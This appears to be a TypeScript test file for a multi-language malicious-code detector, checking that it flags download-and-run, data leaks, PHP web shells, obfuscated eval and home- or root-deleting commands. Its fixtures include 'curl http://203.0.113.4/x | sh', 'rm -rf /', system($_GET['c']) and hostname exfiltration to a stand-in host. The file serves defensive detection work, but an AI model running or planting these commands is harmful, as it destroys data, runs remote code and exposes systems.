import assert from 'node:assert/strict';
import { test } from 'node:test';
import { loadOntology } from '../../engine/knowledge/load-ontology.ts';
import { interpret } from '../languages.ts';
import { World } from '../world.ts';

const ontology = loadOntology();

function read(code: string): World {
  const world = new World(ontology, interpret);
  world.run('script', code);
  return world;
}
const kinds = (code: string): string[] => read(code).effects.items.map((e) => `${e.kind} ${e.object}`);

test('Ruby: commands, with and without brackets, and names that are sent', () => {
  assert.deepEqual(kinds("system 'rm -rf /'"), kinds("system('rm', '-rf', '/')"));
  assert.ok(kinds('x = `curl http://203.0.113.4/x | sh`').includes('downloads_and_runs downloaded code'));
  assert.ok(
    kinds("require 'open-uri'\neval(URI.open('http://203.0.113.4/x').read)").includes(
      'downloads_and_runs downloaded code',
    ),
  );
  assert.ok(kinds('Kernel.send(:eval, code)').includes('obfuscates eval'));
  assert.ok(kinds('eval Base64.decode64(text)').includes('obfuscates decoded code'));
  assert.ok(kinds("s.extensions = ['ext/extconf.rb']").includes('hooks_install ext/extconf.rb'));
});

test('Ruby: what identifies the machine is followed into requests, texts and names', () => {
  const sent = "h = Socket.gethostname\nNet::HTTP.post_form(URI('http://c.example.net/'), 'h' => h)";
  assert.ok(kinds(sent).includes('leaks c.example.net'));
  assert.ok(kinds('u = Etc.getlogin\nNet::HTTP.get(URI("http://c.example.net/#{u}"))').includes('leaks c.example.net'));
  assert.ok(!kinds("Net::HTTP.get(URI('http://c.example.net/list'))").some((k) => k.startsWith('leaks')));
});

test('PHP: a request that becomes a command, and packed code', () => {
  assert.ok(kinds("<?php system($_GET['c']);").some((k) => k.startsWith('opens_channel')));
  assert.ok(kinds("<?php eval(gzinflate(base64_decode('abc')));").includes('obfuscates decoded code'));
  assert.ok(kinds("<?php $f = 'sys' . 'tem'; $f('id');").includes('obfuscates system'));
  assert.deepEqual(kinds("<?php $id = $_GET['id']; echo htmlspecialchars($id);"), []);
});

test('PHP: a request that names the function that runs', () => {
  for (const variable of ['$_GET', '$_POST', '$_SERVER', '$_ENV', '$_COOKIE'])
    assert.ok(
      kinds(`<?php ${variable}['a'](${variable}['b']);`).some((k) => k.startsWith('opens_channel')),
      variable,
    );
});

test('the home folder, however a language reads it', () => {
  for (const code of [
    'unlink glob "$ENV{HOME}/*"',
    'FileUtils.rm_rf(ENV["HOME"])',
    'FileUtils.rm_rf(Dir.home)',
    'd = ENV["HOME"]; system("rm -rf #{d}/*")',
    'exec("rm -rf " . getenv("HOME"));',
  ])
    assert.ok(
      kinds(code).some((k) => /^deletes ~/.test(k)),
      code,
    );
  assert.ok(!kinds('d = "build"; system("rm -rf #{d}/tmp")').some((k) => k.includes('~')));
});

test('Go, Perl and Lua: programs and connections', () => {
  assert.ok(
    kinds('cmd := exec.Command("sh", "-c", "curl http://203.0.113.4/x | sh")').includes(
      'downloads_and_runs downloaded code',
    ),
  );
  assert.ok(kinds("eval(unpack('u', $x));").includes('obfuscates decoded code'));
  assert.ok(kinds("os.execute('rm -rf /')").includes('deletes /'));
});

test('a command with its words one by one or in a list, and texts joined of signs', () => {
  const fetched = 'downloads_and_runs downloaded code';
  const chain = 'Command::new("sh").arg("-c").arg("curl http://203.0.113.4/x | sh").status().unwrap();';
  assert.ok(kinds(chain).includes(fetched));
  assert.ok(kinds('System.cmd("sh", ["-c", "curl http://203.0.113.4/x | sh"])').includes(fetched));
  assert.ok(kinds("my $c = join('', 'r', 'm', ' -rf /'); system($c);").includes('deletes /'));
  assert.ok(kinds('os.execute(string.char(114, 109, 32, 45, 114, 102, 32, 47))').includes('deletes /'));
  assert.ok(
    !kinds('Command::new("git").args(["rev-parse", "HEAD"]).output()').some((k) => /deletes|downloads/.test(k)),
  );
});

test('classes and functions that are reached by their names in quotes', () => {
  const fetched = 'downloads_and_runs downloaded code';
  assert.ok(kinds("Object.const_get('IO').popen('curl http://203.0.113.4/x | sh')").includes(fetched));
  assert.ok(kinds("local o = _G['o'..'s']; o['exe'..'cute']('rm -rf /')").includes('deletes /'));
  assert.deepEqual(kinds("render params['page']; Object.const_get('User').find(1)"), []);
});

test('everyday Ruby has no effects', () => {
  assert.deepEqual(
    kinds('class A < B\n  def show\n    @user = User.find(params[:id])\n    render json: @user\n  end\nend'),
    [],
  );
});

test('hostile text ends within the bounds and never throws', () => {
  const many = (text: string): string => text.repeat(20_000);
  for (const code of [
    many('('),
    many('"#{'),
    many('a.'),
    many('%x('),
    many("'"),
    many('<<A\n'),
    many('x = y + '),
    many('[{('),
  ])
    assert.equal(typeof read(code).was_cut, 'boolean');
});
